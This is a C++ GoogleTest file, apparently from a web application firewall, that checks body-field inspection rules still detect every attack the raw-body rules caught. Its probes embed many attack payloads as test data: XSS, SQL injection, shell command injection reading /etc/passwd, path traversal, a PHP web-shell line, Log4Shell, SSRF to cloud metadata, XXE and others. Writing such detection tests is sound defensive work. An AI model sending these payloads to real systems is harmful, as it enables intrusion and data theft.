// Probes of the unsplit_body target with the real default rules: a body
// whose parsed fields are said to hold all of it is read only through
// body_names and body_fields, so every attack the rules used to find in
// its raw bytes must still be found. Each probe is a raw request parsed
// as the daemon parses it (the HTTP parser, then parseBody with the
// prefix extent when the body was cut at max_body_bytes), inspected once
// with the rules as shipped and once with unsplit_body read as raw_body
// (what the rules read before unsplit_body existed).

#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <string>
#include <vector>

#include "http/body_parser.h"
#include "http/request_parser.h"
#include "inspect/inspector.h"
#include "inspect/rule_loader.h"

namespace mamori::inspect {
namespace {

struct Probe {
  const char* what;
  std::string raw;  // the request, CRLF line ends
  // The site's max_body_bytes; a longer body is cut there (inspect_prefix).
  std::uint64_t max_body_bytes = 1 << 20;
};

struct Sets {
  std::shared_ptr<const RuleSet> shipped;
  std::shared_ptr<const RuleSet> raw_body;  // unsplit_body read as raw_body
};

const Sets& ruleSets() {
  static const Sets sets = [] {
    Sets out;
    auto rules = loadRulesDirectory(MAMORI_RULES_DIR);
    EXPECT_TRUE(rules.ok()) << rules.error().message;
    if (!rules.ok()) return out;
    auto shipped = RuleSet::compile(*rules);
    EXPECT_TRUE(shipped.ok()) << shipped.error().message;
    std::vector<Rule> old_rules = *rules;
    for (auto& rule : old_rules) {
      for (auto& target : rule.targets) {
        if (target.kind == TargetKind::UnsplitBody) target.kind = TargetKind::RawBody;
      }
    }
    auto raw_body = RuleSet::compile(old_rules);
    EXPECT_TRUE(raw_body.ok()) << raw_body.error().message;
    if (shipped.ok()) out.shipped = *shipped;
    if (raw_body.ok()) out.raw_body = *raw_body;
    return out;
  }();
  return sets;
}

// The rule ids `set` fires on `probe`, parsed as Inspection::onRequest
// parses a request; empty with a test failure when it does not parse.
std::set<std::uint32_t> firedIds(const RuleSet& set, const Probe& probe) {
  http::RequestLimits limits;
  limits.max_body_bytes = probe.max_body_bytes;
  limits.body_policy = http::BodyLimitPolicy::InspectPrefix;
  http::RequestParser parser(limits);
  std::size_t used = 0;
  const http::ParseStatus status = parser.feed(probe.raw, &used);
  EXPECT_TRUE(status == http::ParseStatus::Done || status == http::ParseStatus::Prefix)
      << probe.what << ": " << http::rejectReasonName(parser.rejectReason());
  if (status != http::ParseStatus::Done && status != http::ParseStatus::Prefix) return {};
  const http::Request request = parser.takeRequest();
  const auto content_type = request.header("content-type");
  const http::ParsedBody body =
      http::parseBody(content_type ? *content_type : std::string_view(), request.body, {},
                      request.body_truncated ? http::BodyExtent::Prefix : http::BodyExtent::Whole);
  InspectOptions options;
  options.paranoia_level = 4;
  options.anomaly_threshold = 1'000'000;
  options.budget_bytes = 0;
  std::set<std::uint32_t> ids;
  for (const auto& d : inspect(set, request, body, options).detections) ids.insert(d.rule_id);
  return ids;
}

std::string post(std::string_view content_type, std::string_view body,
                 std::string_view extra_headers = "") {
  std::string out = "POST /api HTTP/1.1\r\nHost: a.test\r\nUser-Agent: probe/1.0\r\n";
  if (!content_type.empty()) out.append("Content-Type: ").append(content_type).append("\r\n");
  out.append(extra_headers);
  out.append("Content-Length: ").append(std::to_string(body.size())).append("\r\n\r\n");
  out.append(body);
  return out;
}

std::string ids(const std::set<std::uint32_t>& s) {
  std::string out;
  for (auto id : s) out += std::to_string(id) + " ";
  return out;
}

// Every rule that fired through the raw body still fires.
void expectNothingLost(const Probe& probe) {
  const Sets& sets = ruleSets();
  ASSERT_TRUE(sets.shipped && sets.raw_body);
  const auto now = firedIds(*sets.shipped, probe);
  const auto before = firedIds(*sets.raw_body, probe);
  std::vector<std::uint32_t> lost;
  std::set_difference(before.begin(), before.end(), now.begin(), now.end(),
                      std::back_inserter(lost));
  EXPECT_FALSE(before.empty()) << probe.what << ": the probe is no attack";
  EXPECT_TRUE(lost.empty()) << probe.what << ": raw_body fired " << ids(before)
                            << "; unsplit_body fires " << ids(now);
}

const std::string kForm = "application/x-www-form-urlencoded";

const std::string kXss = "<script>alert(document.cookie)</script>";

// A JSON body cut at max_body_bytes (inspect_prefix) parses without error,
// but the string the cut falls in is left out of its fields; the client
// pads the body so that the cut falls after its payload.
TEST(UnsplitBody, JsonPrefixKeepsTheStringTheCutFellIn) {
  const std::string padding(200, 'A');
  expectNothingLost({"json prefix, cut in a value",
                     post("application/json", R"({"a":"x","q":")" + kXss + padding + "\"}"), 100});
  expectNothingLost({"json prefix, cut in a key",
                     post("application/json", R"({"a":"x",")" + kXss + padding + "\":1}"), 100});
}

// A form prefix keeps the field the cut falls in (its end is simply
// shorter), so a clean form prefix needs no second read.
TEST(UnsplitBody, FormPrefixFieldsHoldTheCutField) {
  expectNothingLost(
      {"form prefix, cut in a value", post(kForm, "a=x&q=" + kXss + std::string(200, 'A')), 100});
}

// A JSON or XML document labelled as a form is split at '=' and '&' into
// form fields, but an application that reads the raw body (PHP's
// php://input, a JSON parser that ignores Content-Type) reads it whole.
TEST(UnsplitBody, JsonOrXmlLabelledAsAFormKeepsIt) {
  const std::vector<Probe> probes = {
      {"xss split at '='", post(kForm, R"J({"c":"<img src=x onerror=alert(1)>"})J")},
      {"svg split at '='", post(kForm, R"J({"c":"<svg onload=alert(1)>"})J")},
      {"href split at '='", post(kForm, R"J({"c":"x\"><a href=javascript:alert(1)>x</a>"})J")},
      {"after whitespace", post(kForm, R"J(  {"c":"<svg onload=alert(1)>"})J")},
      {"array", post(kForm, R"J(["<svg onload=alert(1)>"])J")},
      {"xml", post(kForm, R"J(<a><svg onload=alert(1)/></a>)J")},
  };
  for (const auto& p : probes) expectNothingLost(p);
}

// The body is parsed by the first Content-Type; a backend may take the
// last one (or join them) and parse the body as something else.
TEST(UnsplitBody, TwoContentTypesKeepIt) {
  expectNothingLost(
      {"form first, multipart second", post(kForm,
                                            "--x\r\nContent-Disposition: form-data; "
                                            "name=\"q\"\r\n\r\n1&&cat /etc/passwd\r\n--x--\r\n",
                                            "Content-Type: multipart/form-data; boundary=x\r\n")});
}

// Percent-encodes every byte but ALPHA / DIGIT, as a form encoder would
// ('+' for a space).
std::string formEncode(std::string_view in) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : in) {
    if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9')) {
      out.push_back(static_cast<char>(c));
    } else if (c == ' ') {
      out.push_back('+');
    } else {
      out.push_back('%');
      out.push_back(kHex[c >> 4]);
      out.push_back(kHex[c & 15]);
    }
  }
  return out;
}

// A JSON string literal's content for `in`: '"' and '\' escaped.
std::string jsonEscape(std::string_view in) {
  std::string out;
  for (char c : in) {
    if (c == '"' || c == '\\') out.push_back('\\');
    out.push_back(c);
  }
  return out;
}

// Attacks of each rule family in the places a clean form or JSON body
// holds them: a form value (encoded, and as raw as a client may send
// it), a form name, a JSON value, a nested JSON value and a JSON key.
// Read through the fields alone, each must fire every rule the raw body
// fired. Not here, on purpose: a payload in a nested JSON key, whose name
// is its path ("a./bin/sh", which normalize_path makes "a/bin/sh", so
// 140007 no longer sees a path start), and text that only the raw bytes
// join across a form's '=' or '&' ("allow_url_include=1" as a field
// named allow_url_include; "x=1&&id", whose '&&' a form parser splits on,
// so no application sees it as a command).
TEST(UnsplitBody, CleanFormAndJsonBodiesLoseNoDetection) {
  const std::vector<std::string> payloads = {
      "<script>alert(document.cookie)</script>",
      "<svg onload=alert(1)>",
      "\"><img src=x onerror=prompt(1)>",
      "javascript:alert(1)",
      "1' or '1'='1",
      "x' union select password from users-- ",
      "1; waitfor delay '0:0:5'--",
      ";cat /etc/passwd",
      "|id",
      "$(id)",
      "`uname -a`",
      "/bin/sh -c id",
      "{cat,/etc/passwd}",
      "../../../../etc/passwd",
      "php://filter/convert.base64-encode/resource=index.php",
      "http://169.254.169.254/latest/meta-data/",
      "<?php system($_GET[1]); ?>",
      "O:8:\"stdClass\":0:{}",
      "${jndi:ldap://e.test/a}",
      "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
      "{{7*7}}{{config.items()}}",
      "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
      "*)(|(uid=*))",
      "\r\nSet-Cookie: x=1",
      "this.a == 1; return true",
  };
  for (const auto& payload : payloads) {
    const std::string json = jsonEscape(payload);
    const std::vector<Probe> probes = {
        {"form value", post(kForm, "a=1&q=" + formEncode(payload))},
        // First: after "a=1&" the raw bytes give 140001 the form's own '&'
        // as a command separator before "/bin/sh".
        {"form name", post(kForm, formEncode(payload) + "=1&a=1")},
        {"json value", post("application/json", R"({"a":1,"q":")" + json + "\"}")},
        {"json nested value", post("application/json", R"({"a":{"b":[1,")" + json + "\"]}}")},
        {"json key", post("application/json", R"({"a":1,")" + json + "\":{}}")},
    };
    for (const auto& probe : probes) {
      SCOPED_TRACE(payload);
      expectNothingLost(probe);
    }
  }
}

}  // namespace
}  // namespace mamori::inspect
